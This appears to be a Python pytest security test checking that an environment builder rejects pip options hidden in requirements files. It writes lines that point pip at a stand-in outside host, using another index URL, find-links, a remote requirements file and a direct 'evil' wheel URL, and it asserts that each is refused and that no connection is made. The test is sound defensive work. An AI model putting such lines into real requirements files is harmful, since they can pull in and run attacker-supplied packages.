# tries: puts pip's options into the requirements: another index, source archives, trusted hosts, other files
# success: pip obeys them
# wall: requirements are names with versions; an option is refused
# expect: held
from __future__ import annotations

from pathlib import Path

import pytest
from world import World

from participant_kit.execution.environment import ensure_environment
from participant_kit.execution.errors import ExecutionError


def attack(world: World, folder: Path) -> None:
    address = f"http://127.0.0.1:{world.outside['tcp']}"
    lines = (
        f"--index-url {address}\nevil==1",
        f"--find-links {address}\nevil==1",
        f"-r {address}/x.txt",
        f"evil @ {address}/evil.whl",
    )
    for number, line in enumerate(lines):
        requirements = folder / f"requirements-{number}.txt"
        requirements.write_text(line + "\n")
        with pytest.raises(ExecutionError):
            ensure_environment(requirements, cache=folder / "cache")
        assert world.doors.knocks == [], line
